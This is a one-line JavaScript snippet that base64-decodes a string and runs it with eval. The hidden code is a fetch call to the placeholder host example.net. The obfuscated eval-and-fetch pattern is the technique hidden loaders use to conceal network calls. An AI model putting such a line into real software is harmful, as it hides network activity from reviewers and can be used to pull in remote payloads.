eval(atob('ZmV0Y2goImh0dHBzOi8vZXhhbXBsZS5uZXQiKQ=='));
